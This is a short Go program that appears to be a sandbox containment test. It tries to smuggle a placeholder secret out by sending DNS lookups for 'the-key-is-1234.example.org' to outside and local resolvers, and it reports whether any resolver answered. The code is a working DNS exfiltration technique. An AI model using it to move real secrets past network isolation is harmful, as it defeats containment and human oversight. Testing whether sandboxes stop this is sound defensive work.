// Asks name servers for a name that carries a secret out: DNS passes where nothing else does.
// Holds: no name server hears the question.
// Stopped by: a network of its own, without a way out; no internet sockets at the reduced level.
// Control: plain — the name server on the machine hears the question and answers that it knows no such name.
package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"time"
)

func main() {
	var last error
	for _, server := range []string{os.Getenv("OUTSIDE_DNS"), "1.1.1.1:53", "127.0.0.53:53"} {
		resolver := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "udp", server)
		}}
		ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
		addresses, err := resolver.LookupHost(ctx, "the-key-is-1234.example.org.")
		cancel()
		var failed *net.DNSError
		if err == nil || errors.As(err, &failed) && failed.IsNotFound {
			fmt.Println("WORKED: the server", server, "answered", addresses, err)
			return
		}
		last = err
	}
	fmt.Println("stopped:", last)
}
